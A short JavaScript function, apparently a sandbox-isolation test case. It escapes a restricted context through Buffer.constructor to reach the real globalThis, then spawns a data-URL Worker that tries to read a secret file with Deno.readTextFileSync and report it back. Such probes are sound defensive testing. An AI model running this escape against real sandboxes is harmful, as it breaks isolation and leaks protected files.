async function login(world) {
  const outside = Buffer.constructor('return globalThis')();
  const source = "try { postMessage('GOT ' + Deno.readTextFileSync('" + world.secretFile + "')) } catch { postMessage('refused') }";
  const worker = new outside.Worker('data:text/javascript,' + encodeURIComponent(source), { type: 'module' });
  const answer = await new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done('refused'); });
  worker.terminate();
  return { thread: answer };
}
